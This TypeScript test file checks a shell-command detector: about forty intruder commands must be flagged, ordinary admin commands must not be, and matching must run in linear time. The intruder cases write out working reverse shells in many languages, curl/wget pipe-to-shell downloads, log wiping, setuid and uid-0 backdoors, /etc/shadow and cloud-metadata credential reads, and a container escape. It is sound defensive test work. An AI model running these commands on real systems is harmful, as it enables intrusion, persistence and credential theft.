import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { matchCommand } from '../../src/commands/command-rule.js';
import { COMMAND_RULES } from '../../src/commands/command-rules.js';

const worst = (command: string) => matchCommand(command, COMMAND_RULES)[0]?.rule.id.replace(/^command\./, '');

describe('commands of intruders', () => {
  it.each([
    ['bash -i >& /dev/tcp/192.0.2.9/4444 0>&1', 'reverse-shell.dev-tcp'],
    ['0<&196;exec 196<>/dev/tcp/192.0.2.9/4242; sh <&196 >&196 2>&196', 'reverse-shell.dev-tcp'],
    ['nc -e /bin/sh 192.0.2.9 4242', 'reverse-shell.netcat'],
    ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.9 4242 >/tmp/f', 'reverse-shell.fifo'],
    ["socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.9:4242", 'reverse-shell.socat'],
    [
      'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.9",4242));os.dup2(s.fileno(),0)\'',
      'reverse-shell.python',
    ],
    [
      'perl -e \'use Socket;$i="192.0.2.9";socket(S,PF_INET,SOCK_STREAM,6);exec("/bin/sh -i");\'',
      'reverse-shell.perl',
    ],
    ['php -r \'$sock=fsockopen("192.0.2.9",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'', 'reverse-shell.php'],
    [
      'ruby -rsocket -e \'f=TCPSocket.open("192.0.2.9",4242).to_i;exec sprintf("/bin/sh -i <&%d",f)\'',
      'reverse-shell.ruby',
    ],
    [
      'awk \'BEGIN {s = "/inet/tcp/0/192.0.2.9/4242"; while(42) { do { printf "shell>" |& s } while(1) }}\'',
      'reverse-shell.awk',
    ],
    ['telnet 192.0.2.9 4444 | /bin/sh | telnet 192.0.2.9 4445', 'reverse-shell.telnet'],
    [
      'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.9:4242 > /tmp/s',
      'reverse-shell.fifo',
    ],
    ['curl -fsSL http://192.0.2.9/x.sh | sh', 'download-and-run'],
    ['wget -qO- http://x.example/a | sudo bash -s -- -y', 'download-and-run'],
    ['bash <(curl -s http://x.example/a)', 'download-and-run'],
    ['sh -c "$(wget -O- http://x.example/a)"', 'download-and-run'],
    ['cd /tmp; wget http://x.example/a; chmod +x a; ./a', 'download-to-temp'],
    ['echo ZWNobyBoaQ== | base64 -d | bash', 'decode-and-run'],
    ['eval "$(echo ZWNobyBoaQ== | base64 --decode)"', 'decode-and-run'],
    ['history -c && unset HISTFILE', 'history-wiped'],
    ['export HISTFILE=/dev/null', 'history-wiped'],
    ['rm -f ~/.bash_history', 'history-wiped'],
    ['rm -rf /var/log/auth.log', 'logs-wiped'],
    ['echo > /var/log/wtmp', 'logs-wiped'],
    ['systemctl stop auditd', 'logs-wiped'],
    ['./xmrig -o pool.example:3333 --donate-level 1', 'miner'],
    ['chmod u+s /bin/bash', 'setuid-shell'],
    ['chmod 4755 /tmp/x', 'setuid-shell'],
    ['echo /tmp/x.so > /etc/ld.so.preload', 'preload'],
    ['echo ssh-rsa AAAA >> /root/.ssh/authorized_keys', 'key-added'],
    ['useradd -o -u 0 -g 0 sys2', 'root-account'],
    ["echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd", 'root-account'],
    ['nohup /var/tmp/run >/dev/null 2>&1 &', 'from-temp'],
    ['cat /etc/shadow', 'credential-files'],
    ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'instance-credentials'],
    ['docker run -v /:/host -it alpine chroot /host', 'container-escape'],
    ['iptables -F', 'firewall-off'],
    ['chattr +i /etc/cron.d/x', 'immutable'],
    ['insmod /tmp/rk.ko', 'kernel-module'],
  ])('%s', (command, rule) => {
    expect(worst(command)).toBe(rule);
  });
});

describe('commands of people at work', () => {
  it.each([
    'curl -sI http://localhost/ | head -1',
    'history | grep apt',
    'wget https://example.org/file.tar.gz && tar xzf file.tar.gz',
    'curl -s https://api.example.org/v1 | jq .name',
    'ssh -i ~/.ssh/id_ed25519 admin@192.0.2.9',
    'cat ~/.ssh/id_ed25519.pub',
    'tail -f /var/log/auth.log',
    'rm -rf /var/log/myapp/*.gz',
    'nc -zv 192.0.2.9 22',
    'python3 -m http.server 8000',
    'python3 manage.py runserver',
    'ps aux | grep xmrig',
    'chmod +x deploy.sh && ./deploy.sh',
    'chmod 755 /usr/local/bin/tool',
    'mkfifo /tmp/pipe',
    'openssl s_client -connect example.org:443 < /dev/null',
    'echo "$SECRET" | base64 -d > key.bin',
    'cd /tmp && ls',
    'nohup node server.js &',
    'docker run -v /srv/data:/data postgres',
    'iptables -L -n',
    'useradd -m -s /bin/bash deploy',
    '[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi',
    'systemctl restart apache2',
    'git log -1 --format=%h',
    "find . -name '*.php' -exec grep -l eval {} +",
    'cat /etc/passwd',
    'echo hello > /dev/null',
    'cd / && run-parts --report /etc/cron.hourly',
    'export HISTSIZE=10000',
    'HISTFILE=~/.bash_history',
  ])('%s', (command) => {
    expect(worst(command)).toBeUndefined();
  });
});

describe('the rules', () => {
  it('take any text in linear time', () => {
    const words = [
      'curl ',
      '| ',
      'sh',
      '/dev/tcp/',
      'chmod ',
      '+s ',
      '-x ',
      '"$(',
      'base64 -d',
      ' /tmp/.',
      'nc ',
      '-e',
      'rm ',
      'docker run ',
      '&& ',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...words), { maxLength: 200 }), (parts) => {
        matchCommand(parts.join(''), COMMAND_RULES);
      }),
    );
    for (const word of [
      ...words,
      ' ',
      'a',
      '-',
      '/',
      '\\',
      ';',
      'curl|',
      'chmod -x ',
      'rm -f ',
      'sudo -x ',
    ]) {
      const text = word.repeat(16_384 / word.length);
      const started = performance.now();
      matchCommand(text, COMMAND_RULES);
      expect(performance.now() - started, word).toBeLessThan(400);
    }
  });
});
